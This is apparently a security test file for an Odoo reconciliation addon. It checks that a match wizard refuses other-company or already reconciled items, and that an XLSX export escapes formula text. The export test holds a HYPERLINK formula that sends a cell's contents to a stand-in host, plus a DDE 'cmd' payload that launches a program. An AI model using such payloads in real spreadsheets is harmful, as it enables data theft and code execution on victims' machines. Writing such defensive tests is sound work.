"""Controls of the reconcile addon as the server sees them (issue #19).

The manual match wizard's open items are restricted on the server, not only by
the view's domain; the differences export writes customer and bank text as text,
never as a spreadsheet formula. Each attack goes through the ORM as the user
(``with_user``) and, for the wizard, through JSON-RPC on a running server.
"""

import base64
import io

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tests.common import JsonRpcException
from odoo.tools import mute_logger

from odoo.addons.account.tests.common import AccountTestInvoicingCommon

FORMULA = '=HYPERLINK("http://x/?"&B9,"Open")'


class ReconcileSecurityCase(AccountTestInvoicingCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls.company_data["company"]
        cls.bank = cls.company_data["default_journal_bank"]
        cls.other_company_data = cls.setup_other_company(name="Other Company")
        cls.other_company = cls.other_company_data["company"]
        cls.customer = cls.env["res.partner"].create({"name": "Nordic Trading GmbH"})
        cls.other_customer = cls.env["res.partner"].create({"name": "Alpine Foods"})
        cls.accountant = new_test_user(
            cls.env,
            "rec_sec_accountant",
            password="rec_sec_accountant",
            groups="sales_closing.group_closing_accountant,account.group_account_user",
            company_id=cls.company.id,
            company_ids=[Command.set((cls.company | cls.other_company).ids)],
        )
        cls.env.user.groups_id += cls.env.ref("sales_closing.group_closing_accountant")
        cls.Wizard = cls.env["sales.closing.match.wizard"]

    def _invoice(self, partner, amount, company_data=None, move_type="out_invoice"):
        company_data = company_data or self.company_data
        move = (
            self.env["account.move"]
            .with_company(company_data["company"])
            .create(
                {
                    "move_type": move_type,
                    "partner_id": partner.id,
                    "invoice_date": "2026-01-10",
                    "date": "2026-01-10",
                    "invoice_line_ids": [
                        Command.create(
                            {"name": "Goods", "price_unit": amount, "tax_ids": []}
                        )
                    ],
                }
            )
        )
        move.action_post()
        return move

    @staticmethod
    def _open_item(move):
        return move.line_ids.filtered(
            lambda aml: (
                aml.account_id.account_type in ("asset_receivable", "liability_payable")
            )
        )

    def _line(self, amount, label="transfer", partner=None, journal=None):
        return self.env["account.bank.statement.line"].create(
            {
                "journal_id": (journal or self.bank).id,
                "date": "2026-01-20",
                "payment_ref": label,
                "amount": amount,
                "partner_id": partner and partner.id,
            }
        )


@tagged("post_install", "-at_install")
class TestMatchWizardServerSide(ReconcileSecurityCase):
    """The view's domain of the open items is enforced by the server."""

    def _wizard(self, line, items, user=None, **values):
        wizards = self.Wizard.with_user(user) if user else self.Wizard
        return wizards.with_context(default_statement_line_id=line.id).create(
            {"move_line_ids": [Command.set(items.ids)], **values}
        )

    def test_foreign_items_are_refused(self):
        line = self._line(100.0)
        own = self._open_item(self._invoice(self.customer, 100.0))
        other_company = self._open_item(
            self._invoice(self.customer, 100.0, self.other_company_data)
        )
        payable = self._open_item(
            self._invoice(self.customer, 100.0, move_type="in_invoice")
        )
        paid = self._invoice(self.customer, 100.0)
        paid_item = self._open_item(paid)
        self._wizard(self._line(100.0), paid_item).action_validate()
        self.assertTrue(paid_item.reconciled)
        revenue = own.move_id.line_ids.filtered(
            lambda aml: aml.account_id.account_type == "income"
        )
        for label, items in (
            ("another company", other_company),
            ("a vendor bill's payable", payable),
            ("an already reconciled item", paid_item),
            ("an income line", revenue),
        ):
            with self.subTest(label), self.assertRaises(ValidationError):
                self._wizard(line, own | items, user=self.accountant)
        # partner required by the wizard: another customer's invoice is refused
        foreign = self._open_item(self._invoice(self.other_customer, 100.0))
        with self.assertRaises(ValidationError):
            self._wizard(
                line, foreign, user=self.accountant, partner_id=self.customer.id
            )
        self.assertFalse(line.is_reconciled)
        # the legitimate match still works
        self._wizard(line, own, user=self.accountant).action_validate()
        self.assertTrue(line.is_reconciled)
        self.assertTrue(own.reconciled)

    def test_items_checked_again_when_applied(self):
        """An item reconciled after the wizard was filled is refused at Validate."""
        item = self._open_item(self._invoice(self.customer, 100.0))
        late = self._wizard(self._line(100.0), item, user=self.accountant)
        self._wizard(self._line(100.0), item).action_validate()
        self.assertTrue(item.reconciled)
        with self.assertRaises(ValidationError):
            late.action_validate()

    def test_write_after_create_is_checked(self):
        line = self._line(100.0)
        own = self._open_item(self._invoice(self.customer, 100.0))
        wizard = self._wizard(line, own, user=self.accountant)
        other = self._open_item(
            self._invoice(self.customer, 100.0, self.other_company_data)
        )
        with self.assertRaises(ValidationError):
            wizard.write({"move_line_ids": [Command.link(other.id)]})

    def test_other_users_cannot_use_the_wizard(self):
        line = self._line(100.0)
        own = self._open_item(self._invoice(self.customer, 100.0))
        sales = new_test_user(
            self.env, "rec_sec_sales", groups="sales_closing.group_closing_user"
        )
        portal = new_test_user(self.env, "rec_sec_portal", groups="base.group_portal")
        public = self.env.ref("base.public_user")
        for user in (sales, portal, public):
            with self.subTest(user=user.id), self.assertRaises(AccessError):
                self._wizard(line, own, user=user)
        self.assertFalse(line.is_reconciled)


@tagged("post_install", "-at_install")
class TestMatchWizardJsonRpc(HttpCase, ReconcileSecurityCase):
    """The same refusal through JSON-RPC on a running server."""

    def test_json_rpc_refuses_another_company_item(self):
        line = self._line(100.0)
        other = self._open_item(
            self._invoice(self.customer, 100.0, self.other_company_data)
        )
        self.authenticate("rec_sec_accountant", "rec_sec_accountant")
        both = (self.company | self.other_company).ids
        with (
            mute_logger("odoo.http"),
            self.assertRaisesRegex(JsonRpcException, "ValidationError"),
        ):
            self.make_jsonrpc_request(
                "/web/dataset/call_kw/sales.closing.match.wizard/create",
                {
                    "model": "sales.closing.match.wizard",
                    "method": "create",
                    "args": [
                        {
                            "statement_line_id": line.id,
                            "move_line_ids": [Command.set(other.ids)],
                        }
                    ],
                    "kwargs": {"context": {"allowed_company_ids": both}},
                },
            )
        self.assertFalse(
            self.Wizard.search([("statement_line_id", "=", line.id)]),
            "no wizard was stored",
        )


@tagged("post_install", "-at_install")
class TestDifferencesExportIsText(ReconcileSecurityCase):
    """A customer or bank text starting with = + - @ is exported as text."""

    def test_formula_text_is_not_a_formula(self):
        evil = self.env["res.partner"].create({"name": FORMULA})
        self._line(300.0, label="+cmd|' /C calc'!A0", partner=evil)
        self.env.user.groups_id += self.env.ref("sales_closing.group_closing_manager")
        period = self.env["sales.closing.period"].create(
            {
                "name": "2026-01",
                "company_id": self.company.id,
                "date_from": "2026-01-01",
                "date_to": "2026-01-31",
            }
        )
        action = period.action_export_differences_xlsx()
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
        texts = [cell.value for cell in cells]
        self.assertIn("'" + FORMULA, texts)
        self.assertIn("'+cmd|' /C calc'!A0", texts)
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.value)
            self.assertFalse(cell.value.startswith(("=", "+", "-", "@")), cell.value)
